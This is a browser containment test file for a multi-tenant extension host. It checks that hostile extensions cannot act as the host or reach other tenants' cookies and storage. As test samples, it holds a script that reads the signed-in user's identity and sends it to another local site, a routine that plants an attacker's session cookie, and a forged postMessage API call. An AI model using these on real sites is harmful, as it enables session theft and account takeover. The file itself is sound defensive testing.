import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser, type BrowserContext, type Frame, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { packProjectDir } from '../../lib/bundle/index.ts';
import { generateSigningKey } from '../../lib/signing/index.ts';
import { startHost, type RunningHost } from '../../host/core/start.ts';
import extensionsPlugin from '../../host/plugins/extensions/index.ts';
import { exampleDir, guestDir } from '../support/projects.ts';
import { sign } from '../host/signed-bundles.ts';
import { tempDir } from '../host/temp-dir.ts';

/**
 * Issue 9 in real Chromium: a hostile extension's bytes never act as the host, and extension UIs
 * never share cookies or storage with the host, with each other, or across tenants. One host and
 * runner (startHost) for the file; kv-counter and the misbehave guest installed for two tenants.
 */
const counter = 'com.example.kv-counter';
const hostile = 'test.guests.misbehave';
const password = 'a long password for everyone';

let dir: ReturnType<typeof tempDir>;
let running: RunningHost;
let browser: Browser;
let elsewhere: Server;
let elsewhereUrl: string;
/** What pages reported to "another site" (a listener outside the host): anything here is a leak. */
const leaks: string[] = [];
let tenantAToken: string;

async function api(path: string, token: string, init: { method?: string; body?: unknown } = {}): Promise<any> {
  const response = await fetch(`${running.url}${path}`, {
    method: init.method ?? 'GET',
    headers: { authorization: `Bearer ${token}`, ...(init.body ? { 'content-type': 'application/json' } : {}) },
    body: init.body ? JSON.stringify(init.body) : undefined,
  });
  const body = await response.json();
  if (!response.ok) throw new Error(`${path} answered ${response.status}: ${JSON.stringify(body)}`);
  return body;
}

/** The first calls load and compile each component; the browser tests start after them. */
async function warmUp(path: string, token: string): Promise<void> {
  const deadline = Date.now() + 120_000;
  let last = '';
  while (Date.now() < deadline) {
    const response = await fetch(`${running.url}${path}`, { headers: { authorization: `Bearer ${token}` } }).catch((error) => error as Error);
    if (response instanceof Response && response.ok) return;
    last = response instanceof Response ? `${response.status} ${await response.text()}` : response.message;
    await new Promise((resolve) => setTimeout(resolve, 300));
  }
  throw new Error(`${path} never answered through the gateway: ${last}`);
}

/** A session cookie value for a user, signed in from Node (what an attacker holds of their own account). */
async function sessionOf(username: string): Promise<string> {
  const response = await fetch(`${running.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username, password }) });
  const cookie = /^alga_session=([^;]+)/.exec(response.headers.get('set-cookie') ?? '');
  if (!cookie) throw new Error(`no session for ${username}`);
  return cookie[1];
}

beforeAll(async () => {
  dir = tempDir('alga-containment-');
  const keys = { example: generateSigningKey(), test: generateSigningKey() };
  const trust = { version: 1, keys: Object.entries(keys).map(([publisher, key]) => ({ keyId: key.keyId, publisher, publicKey: key.publicKey })) };
  running = await startHost({
    dataDir: dir.path,
    port: 0,
    plugins: [extensionsPlugin],
    logLevel: process.env.CONTAINMENT_LOG ?? 'silent',
    env: { ...process.env, SIGNING_TRUST_BUNDLE: JSON.stringify(trust) },
  });
  const auth = running.host.auth;
  for (const [publisher, projectDir] of [['example', exampleDir('kv-counter')], ['test', guestDir('misbehave')]] as const) {
    const bundle = packProjectDir(projectDir);
    const token = auth.createToken({ kind: 'publisher', publisher }).token;
    await api('/api/registry/bundles', token, { method: 'POST', body: { bundle_b64: Buffer.from(bundle.bytes).toString('base64'), signatures: sign(bundle.bytes, keys[publisher]) } });
  }
  auth.createTenant({ id: 'tenant-a', name: 'Tenant A' });
  auth.createTenant({ id: 'tenant-b', name: 'Tenant B' });
  await auth.createUser({ username: 'ada', password, role: 'tenant-admin', tenantId: 'tenant-a' });
  await auth.createUser({ username: 'mallory', password, role: 'member', tenantId: 'tenant-b' });
  await auth.createUser({ username: 'bob', password, role: 'member', tenantId: 'tenant-b' });
  tenantAToken = auth.createToken({ kind: 'tenant', tenantId: 'tenant-a' }).token;
  const tenantBToken = auth.createToken({ kind: 'tenant', tenantId: 'tenant-b' }).token;
  await api('/api/installs', tenantAToken, { method: 'POST', body: { extensionId: counter, grants: ['alga.storage'] } });
  await api('/api/installs', tenantAToken, { method: 'POST', body: { extensionId: hostile, grants: [], egress: [] } });
  await api('/api/installs', tenantBToken, { method: 'POST', body: { extensionId: counter, grants: ['alga.storage'] } });
  await warmUp(`/api/ext/${counter}/count`, tenantAToken);
  await warmUp(`/api/ext/${hostile}/hello`, tenantAToken);

  elsewhere = createServer((request, response) => {
    if (request.url?.startsWith('/leak')) leaks.push(decodeURIComponent(request.url.slice('/leak?'.length)));
    response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>elsewhere</title><p>another site</p>');
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  elsewhereUrl = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;

  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'] });
}, 240_000);

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => elsewhere?.close(resolve));
  await running?.close();
  dir?.remove();
});

async function signedIn(username: string, context?: BrowserContext): Promise<{ context: BrowserContext; page: Page }> {
  context ??= await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${running.url}/login?next=%2Fext`);
  await page.fill('#username', username);
  await page.fill('#password', password);
  await Promise.all([page.waitForURL(`${running.url}/ext`), page.click('button[type=submit]')]);
  return { context, page };
}

/** Opens an extension's page and returns its UI frame once the UI's script has run. */
async function extensionFrame(page: Page, extensionId: string): Promise<Frame> {
  await page.goto(`${running.url}/ext/${extensionId}`);
  const src = await page.locator('#ext-frame').getAttribute('src');
  const origin = new URL(src!).origin;
  let frame: Frame | undefined;
  await expect.poll(() => (frame = page.frames().find((candidate) => candidate.url().startsWith(origin))) !== undefined, { timeout: 30_000 }).toBe(true);
  await frame!.waitForLoadState('load');
  return frame!;
}

const whoAmI = (page: Page) => page.evaluate(async () => {
  const response = await fetch('/api/auth/me');
  return response.ok ? (await response.json()).principal.name : `${response.status}`;
});

/** A hostile extension answer: HTML whose script reads /api/auth/me as whoever opened it and sends it to another site. */
function hostileHtmlUrl(): string {
  const script = `<script>fetch('/api/auth/me').then((r) => r.text()).then((t) => fetch('${elsewhereUrl}/leak?' + encodeURIComponent(t), { mode: 'no-cors' }))</script>`;
  const query = new URLSearchParams({ status: '200', header: 'content-type:text/html; charset=utf-8', body: `<!doctype html><h1>hostile</h1>${script}` });
  return `${running.url}/api/ext/${hostile}/respond?${query}`;
}

describe('browser containment (issue 9)', () => {
  it("a hostile extension's HTML answer, opened by a signed-in tenant admin, never runs as the host", async () => {
    const { context, page } = await signedIn('ada');
    const url = hostileHtmlUrl();

    // Typed into the address bar: the answer is an attachment, never a document of the host's origin.
    const download = page.waitForEvent('download');
    await page.goto(url).catch(() => undefined);
    expect((await download).suggestedFilename()).toBeTruthy();

    // Followed from another site (127.0.0.1 on another port is the same site): the session does not count.
    const other = await context.newPage();
    await other.goto(elsewhereUrl);
    await Promise.all([other.waitForURL(url), other.evaluate((target) => (location.href = target), url)]);
    expect(JSON.parse((await other.locator('body').textContent())!).error.code).toBe('E_EXT_CROSS_ORIGIN');

    // Framed by another site: refused as well (and never framed).
    await other.goto(elsewhereUrl);
    await other.evaluate((target) => {
      const frame = document.createElement('iframe');
      frame.src = target;
      document.body.append(frame);
      return new Promise((resolve) => frame.addEventListener('load', resolve));
    }, url);

    // Had any of the three run the script, it would have sent ada's /api/auth/me here by now.
    await page.goto(`${running.url}/ext`);
    expect(await whoAmI(page)).toBe('ada');
    expect(leaks).toEqual([]);
    await context.close();
  }, 120_000);

  it("script of an extension's UI cannot set a cookie the host reads, nor read the host's, in its frame or opened on its own", async () => {
    const { context, page } = await signedIn('ada');
    const mallory = await sessionOf('mallory');
    const hostName = new URL(running.url).hostname;
    const plant = ({ mallory, hostName }: { mallory: string; hostName: string }) => {
      for (const attributes of ['path=/api', 'path=/', `domain=${hostName}; path=/api`, 'domain=localhost; path=/', 'domain=.localhost; path=/']) {
        document.cookie = `alga_session=${mallory}; ${attributes}`;
      }
      return document.cookie;
    };
    const frame = await extensionFrame(page, counter);
    const frameUrl = new URL(frame.url());
    await frame.evaluate(plant, { mallory, hostName });
    expect(await whoAmI(page)).toBe('ada');

    // The same UI opened as a page of its own (a first-party context, where its cookies are kept).
    const alone = await context.newPage();
    await alone.goto(frameUrl.href);
    expect(await alone.evaluate(plant, { mallory, hostName })).toContain('alga_session'); // its own cookie, at its own host name…
    expect(await whoAmI(page)).toBe('ada'); // …which the host never sees
    await page.goto(`${running.url}/ext`);
    expect(await whoAmI(page)).toBe('ada');
    const hostSession = (await context.cookies(running.url)).find((cookie) => cookie.name === 'alga_session')!.value;
    expect(await alone.evaluate(() => document.cookie)).not.toContain(hostSession);
    expect(await (await extensionFrame(page, counter)).evaluate(() => document.cookie)).not.toContain(hostSession);
    // The UI's origin: a host name of its own on the runner's port.
    expect(frameUrl.port).toBe(new URL(running.runner.publicBaseUrl()!).port);
    expect(frameUrl.hostname).toMatch(/^[0-9a-f]{32}\.localhost$/);
    await context.close();
  }, 120_000);

  it("each install's UI has storage of its own: another extension, and another tenant in the same browser, cannot read it", async () => {
    const { context, page } = await signedIn('ada');
    /** Reads (and optionally writes) the UI origin's storage, in a frame or a page; "blocked" where the browser refuses third-party storage. */
    const storage = (target: Page | Frame, write?: string) => target.evaluate((value) => {
      try {
        if (value) {
          localStorage.setItem('secret', value);
          document.cookie = `ui_secret=${value}; path=/`;
        }
        return `${localStorage.getItem('secret')} | ${document.cookie}`;
      } catch {
        return 'blocked';
      }
    }, write);
    const uiUrl = async (extensionId: string, viewer: Page) => (await extensionFrame(viewer, extensionId)).url();

    const counterUrl = await uiUrl(counter, page);
    const hostileUrl = await uiUrl(hostile, page);
    expect(new URL(hostileUrl).origin).not.toBe(new URL(counterUrl).origin);
    // In its frame (where the browser allows third-party storage at all) and opened on its own, the counter UI writes…
    await storage(await extensionFrame(page, counter), 'tenant-a-counter');
    const alone = await context.newPage();
    await alone.goto(counterUrl);
    await storage(alone, 'tenant-a-counter');
    await alone.reload();
    expect(await storage(alone)).toBe('tenant-a-counter | ui_secret=tenant-a-counter'); // it keeps what it wrote at its origin…
    // …and another extension's UI reads nothing of it, in its frame or on its own.
    const readsNothing = (value: string) => value === 'blocked' || value === 'null | ';
    expect(await storage(await extensionFrame(page, hostile))).toSatisfy(readsNothing);
    await alone.goto(hostileUrl);
    expect(await storage(alone)).toBe('null | ');

    // Tenant B's user signs in in the same browser: the same extension, another install, another origin.
    await context.clearCookies();
    const { page: bobPage } = await signedIn('bob', context);
    const tenantBUrl = await uiUrl(counter, bobPage);
    expect(new URL(tenantBUrl).origin).not.toBe(new URL(counterUrl).origin);
    expect(await storage(await extensionFrame(bobPage, counter))).toSatisfy(readsNothing);
    await alone.goto(tenantBUrl);
    expect(await storage(alone)).toBe('null | ');
    await context.close();
  }, 120_000);

  it("an extension's frame cannot be turned into another extension's UI that speaks to the host page in its place", async () => {
    const { context, page } = await signedIn('ada');
    const hostileSrc = await (async () => {
      await extensionFrame(page, hostile);
      return (await page.locator('#ext-frame').getAttribute('src'))!;
    })();
    const before = (await api(`/api/ext/${counter}/count`, tenantAToken)).count;
    const frame = await extensionFrame(page, counter);
    // The counter's frame navigates itself to the other extension's UI, which would then speak to the counter's host page.
    const hostileOrigin = new URL(hostileSrc).origin;
    await frame.evaluate((src) => (location.href = src), hostileSrc);
    const settled = Date.now() + 3_000;
    let intruder: Frame | undefined;
    while (!intruder && Date.now() < settled) {
      intruder = page.frames().find((candidate) => candidate.url().startsWith(hostileOrigin));
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    if (intruder) {
      await intruder.waitForLoadState('load');
      await intruder.evaluate(() => {
        const envelope = { alga: true, version: '1', type: 'apiproxy', request_id: 'intruder', payload: { path: '/increment', method: 'POST', headers: {}, body: null } };
        for (let i = 0; i < 3; i += 1) parent.postMessage(envelope, '*');
      });
      await new Promise((resolve) => setTimeout(resolve, 1_500)); // time for a forged call to land, were it taken
    }
    // The page's CSP (frame-src: this install's UI origin only) keeps the frame from loading another origin at all…
    expect(intruder).toBeUndefined();
    // …and nothing was called on the counter's API in the user's name.
    expect((await api(`/api/ext/${counter}/count`, tenantAToken)).count).toBe(before);
    await context.close();
  }, 120_000);
});
